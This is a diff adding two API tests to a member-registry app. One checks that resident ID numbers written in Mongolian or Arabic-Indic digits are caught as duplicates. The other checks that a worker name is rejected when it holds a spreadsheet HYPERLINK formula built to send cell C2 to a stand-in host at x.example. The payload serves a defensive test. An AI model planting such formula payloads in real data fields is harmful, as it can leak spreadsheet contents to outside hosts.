@@ -53,3 +53,35 @@ def test_a_unit_contact_adds_a_worker_to_their_roster_and_an_auditor_may_not(cli
     refused = client.post("/api/v1/members/workers", body, content_type="application/json",
                           headers={"Authorization": f"Bearer {auditor_token}"})
     assert refused.status_code == 403 and refused.json()["message"] == "您的角色无权执行此操作"
+
+
+def test_the_api_refuses_a_registered_persons_number_in_mongolian_digits_as_a_duplicate(client, county_clerk, home_unit):
+    from datetime import date as _date
+
+    from huzhu.core.idnumbers import make_resident_id
+    from huzhu.members.models import Worker
+
+    number = make_resident_id("150203", _date(1985, 3, 2), 29)  # ends in X, as the audit's number did
+    client.login(username=county_clerk.username, password=PASSWORD)
+    for typed in (number, "".join(chr(0x1810 + int(c)) if c.isdigit() else c for c in number),
+                  "".join(chr(0x0660 + int(c)) if c.isdigit() else c for c in number)):
+        answer = client.post("/api/v1/members/workers", {"unit_id": home_unit.pk, "name": "巴图", "id_number": typed},
+                             content_type="application/json")
+        assert answer.status_code == (201 if typed == number else 409), typed
+    assert Worker.objects.get().gender == "M"
+
+
+def test_the_api_refuses_a_formula_name_with_422_and_says_why(client, county_clerk, home_unit):
+    from datetime import date as _date
+
+    from huzhu.core.idnumbers import make_resident_id
+    from huzhu.members.models import Worker
+
+    client.login(username=county_clerk.username, password=PASSWORD)
+    answer = client.post("/api/v1/members/workers",
+                         {"unit_id": home_unit.pk, "name": '=HYPERLINK("http://x.example/"&C2,"点我")',
+                          "id_number": make_resident_id("150203", _date(1985, 3, 2), 123)},
+                         content_type="application/json")
+    assert answer.status_code == 422
+    assert answer.json()["field"] == "name" and "公式" in answer.json()["message"]
+    assert not Worker.objects.exists()
